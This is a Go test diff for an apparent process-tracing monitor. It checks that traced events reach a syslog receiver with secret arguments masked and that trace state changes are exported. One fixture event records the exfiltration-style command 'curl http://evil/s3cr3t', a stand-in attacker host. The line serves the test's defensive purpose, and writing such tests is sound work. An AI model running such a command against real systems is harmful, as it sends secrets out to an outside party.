@@ -10,6 +10,7 @@ import (
 	"crypto/tls"
 	"crypto/x509"
 	"crypto/x509/pkix"
+	"database/sql"
 	"encoding/pem"
 	"fmt"
 	"math/big"
@@ -24,6 +25,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/evilbitlabs/daemoneye/capture"
 	"github.com/evilbitlabs/daemoneye/config"
 	"github.com/evilbitlabs/daemoneye/roles/center"
 )
@@ -179,6 +181,27 @@ func TestEgressGate(t *testing.T) {
 	eventually(t, 30*time.Second, "the trace summary at the syslog receiver", func() bool {
 		return strings.Contains(got(), `id="trace-tr-egress-2-approved"`)
 	})
+	// A traced event of that trace goes out (masked), and so does its
+	// later state change.
+	ev := capture.Event{Time: time.Now().UnixNano(), Kind: capture.KindExec, Comm: "curl", TraceID: "tr-egress-2", TraceSeq: 1,
+		Proc: capture.ProcKey{PID: 2, Start: 2}, Parent: capture.ProcKey{PID: 1, Start: 1},
+		Exec: &capture.Exec{Exe: "/usr/bin/curl", Argv: []string{"curl", "http://evil/s3cr3t"}, Cwd: "/"}}
+	if _, _, err := a.Store.Append([]capture.Event{ev}); err != nil {
+		t.Fatal(err)
+	}
+	a.Ship.Kick()
+	eventually(t, 30*time.Second, "the trace event at the syslog receiver", func() bool {
+		return strings.Contains(got(), `id="ev-tr-egress-2-host-e-`)
+	})
+	if strings.Contains(got(), "s3cr3t") {
+		t.Errorf("a masked argument was exported: %s", got())
+	}
+	if err := setTraceState(c, "tr-egress-2", "stopped"); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, 30*time.Second, "the trace's stop at the syslog receiver", func() bool {
+		return strings.Contains(got(), `id="trace-tr-egress-2-stopped"`)
+	})
 	if strings.Contains(got(), "tr-egress-1") {
 		t.Errorf("a record from before the approval was exported: %s", got())
 	}
@@ -265,4 +288,16 @@ func ledgerKinds(t *testing.T, c *Center) map[string]bool {
 		kinds[r.Kind] = true
 	}
 	return kinds
+}
+
+// setTraceState changes a trace's state in the center's SQL store, as the
+// center does when its agents answer.
+func setTraceState(c *Center, id, state string) error {
+	db, err := sql.Open("sqlite", c.SQL.Path()+"?_pragma=busy_timeout(10000)")
+	if err != nil {
+		return err
+	}
+	defer db.Close()
+	_, err = db.Exec(`UPDATE traces SET state = ?, stopped = ? WHERE trace_id = ?`, state, time.Now().UnixNano(), id)
+	return err
 }
